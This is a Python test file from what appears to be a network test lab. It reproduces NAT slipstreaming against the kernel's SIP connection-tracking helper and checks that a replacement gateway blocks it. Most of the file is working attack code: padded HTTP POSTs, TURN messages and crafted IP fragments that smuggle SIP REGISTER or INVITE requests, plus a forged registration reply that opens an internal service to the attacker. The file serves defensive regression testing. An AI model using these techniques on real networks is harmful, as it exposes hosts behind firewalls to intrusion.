"""NAT slipstreaming: a web page has the browser of an inside host say SIP to the attacker's port 5060, in the middle of something
else, where a helper that looks at each packet by itself finds it at the packet's beginning.

    HTTP        a POST whose body is padded so that a REGISTER, or an INVITE, begins a segment
    TURN, TCP   the same in a STUN message's username
    TURN, UDP   a datagram so long that the second of its IP fragments begins with the message, or with a UDP header and the message

The victim's TCP is the kernel's own. The attacker measures the segments of a first request, and then pads the second one. What is
inserted names a service of the victim, or of its neighbour, as its Contact. The kernel's helper opens the victim's service to the
attacker; with sipnat nothing opens and every byte arrives as it was sent. So does what looks like TLS.
"""

import struct

from lab import sdp, sip
from lab.segments import HandMade
from lab.sip import Message
from lab.tcp import TcpAgent, Writer

NEEDS = {"cthelper", "glue", "nft_queue", "nf_nat_sip"}
TIMEOUT = 240
ALONE = True
ATTACKER = ("203.0.113.10", 5060)
SERVICE = 8080
"""Of the victim's: what is not for the outside."""
TAIL = b"x" * 500
FRAGMENT = 1480
"""A full one's payload, with 20 bytes of header before it."""


def run(lab):
    for arm in ("kernel", "sipnat") if lab.arm == "sipnat" else (lab.arm,):
        with lab.network("phone1", "phone2", "server", arm=arm, firewall="restricted") as net:
            # A packet for each segment, as network cards send them.
            net["phone1"].run("ip", "link", "set", "eth0", "gso_max_segs", "1")
            opened = {name: opened_by(attack, net) for name, attack in ATTACKS.items()}
            lab.log("\n".join(f"{arm:6}  {name:40}  {len(found)} expectations" for name, found in opened.items()))
            if arm == "kernel":
                assert opened["HTTP, REGISTER"] and opened["HTTP, INVITE"], opened
                assert reaches_service(net), "the attack is not what it was: the attacker does not reach the service"
            else:
                assert not any(opened.values()), opened
                assert not reaches_service(net), "the attacker reaches the victim's service"


def opened_by(attack, net):
    net.gateway.gateway.run("conntrack", "-F", "expect")
    return attack(net)


def over_tcp(begin, inserted):
    """`begin` makes the start of a stream, for a given length of what follows; what `inserted` makes then begins a segment."""

    def attack(net):
        attacker, victim, connection = connected(net)
        connection.send(begin(4000) + b"x" * 4000)
        attacker.expect(begin(4000) + b"x" * 4000)
        size = len(attacker.segments[next(i for i, segment in enumerate(attacker.segments) if segment.data)].data)
        end(attacker, victim)

        attacker, victim, connection = connected(net)
        message = inserted(net)
        length = 3 * size
        padding = length - len(begin(length))
        stream = begin(length) + b"x" * padding + message + TAIL
        connection.send(stream)
        there = received(net, attacker, stream)
        begins = [segment.data for segment in attacker.segments if segment.offset == length]
        assert begins and begins[0][:8] == message[:8], f"no segment begins with the message: {[len(one.data) for one in attacker.segments]}"
        answer(net, attacker, there[length:])
        return end(attacker, victim, net)

    return attack


def connected(net):
    attacker = HandMade(net["server"], ATTACKER[1])
    attacker.listen()
    victim = TcpAgent(net["phone1"], "victim")
    connection = victim.connect(ATTACKER)
    attacker.accept()
    return attacker, victim, connection


def received(net, attacker, stream):
    """What has arrived of it; nobody but the kernel's helper may have changed it."""
    if net.gateway.name == "kernel":
        return attacker.wait_received(len(stream) - len(TAIL) // 2)
    attacker.expect(stream)
    return stream


def open_now(net):
    return net.gateway.expectations() or [*net.gateway.open_signalling(), *net.gateway.open_media()]


def answer(net, attacker, arrived):
    """The attacker grants a registration that it finds: with that the kernel's helper opens the Contact."""
    request = Message.parse(arrived[:arrived.index(b"\r\n\r\n") + 4])
    if request.method == "REGISTER":
        granted = Writer(net["server"], "mallory", 5060).response(request, 200, contact=f"{request['Contact']};expires=3600").encode()
        attacker.wait_acknowledged(attacker.put_all(granted))


def end(attacker, victim, net=None):
    """Returns what is open now."""
    opened = open_now(net) if net else []
    victim.close()
    attacker.close()
    return opened


def reaches_service(net):
    """Whether the attacker comes to the victim's service by a port of the gateway's, after one more REGISTER."""
    service = TcpAgent(net["phone1"], "service", listens=SERVICE)
    attacker = TcpAgent(net["server"], "mallory")
    for endpoint in [one.expected.destination for one in ATTACKS["HTTP, REGISTER"](net)] or [("203.0.113.1", SERVICE)]:
        try:
            attacker.connect(endpoint).send(b"hello")
        except AssertionError:
            continue
        return service.accept().collect() is not None
    return False


def over_udp(begin):
    """`begin`: what stands at the second fragment's beginning, before the message."""

    def attack(net):
        victim, attacker = net["phone1"].udp_socket(5060), net["server"].udp_socket(5060)
        message = register(net)
        head = stun(b"")
        datagram = stun(b"x" * (FRAGMENT - 8 - len(head)) + begin(len(message)) + message)
        assert datagram[FRAGMENT - 8:].startswith(begin(len(message)) + message)
        victim.sendto(datagram, ATTACKER)
        attacker.settimeout(30)
        data, source = attacker.recvfrom(65536)
        assert data == datagram, f"the datagram was changed: {data[FRAGMENT - 8:]!r}"
        attacker.sendto(b"\x01\x13" + datagram[2:20], source)
        opened = open_now(net)
        victim.close()
        attacker.close()
        return opened

    return attack


def post(length):
    return (f"POST / HTTP/1.1\r\nHost: {ATTACKER[0]}:{ATTACKER[1]}\r\nConnection: keep-alive\r\nContent-Length: {length}\r\n"
            "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary\r\nOrigin: http://203.0.113.10\r\n\r\n").encode()


def stun(username):
    """A TURN Allocate request (RFC 8656) whose username it is."""
    attribute = struct.pack(">HH", 6, len(username)) + username + b"\0" * (-len(username) % 4)
    return struct.pack(">HHI", 3, len(attribute), 0x2112A442) + b"slipstream!!" + attribute


def stun_over_tcp(length):
    return stun(b"x" * min(length, 60000))[:24]


def tls(length):
    """A ClientHello's record."""
    return struct.pack(">BHH", 22, 0x301, min(length, 16384)) + struct.pack(">B", 1)


def register(net, host="phone1"):
    return Writer(net[host], "victim", SERVICE).request("REGISTER", "sip:203.0.113.10;transport=tcp", headers=[("Expires", "3600")]).encode()


def register_neighbour(net):
    return register(net, "phone2")


def invite(net):
    body = sdp.audio(net["phone1"].address, 20000)
    return Writer(net["phone1"], "victim", SERVICE).request("INVITE", "sip:mallory@203.0.113.10", body=body).encode()


ATTACKS = {
    "HTTP, REGISTER": over_tcp(post, register),
    "HTTP, REGISTER of a neighbour": over_tcp(post, register_neighbour),
    "HTTP, INVITE": over_tcp(post, invite),
    "TURN over TCP, REGISTER": over_tcp(stun_over_tcp, register),
    "TURN over TCP, INVITE": over_tcp(stun_over_tcp, invite),
    "TURN over UDP, REGISTER": over_udp(lambda _: b""),
    "TURN over UDP, UDP header and REGISTER": over_udp(lambda length: struct.pack(">HHHH", 5060, 5060, 8 + length, 0)),
    "TLS": over_tcp(tls, register),
}
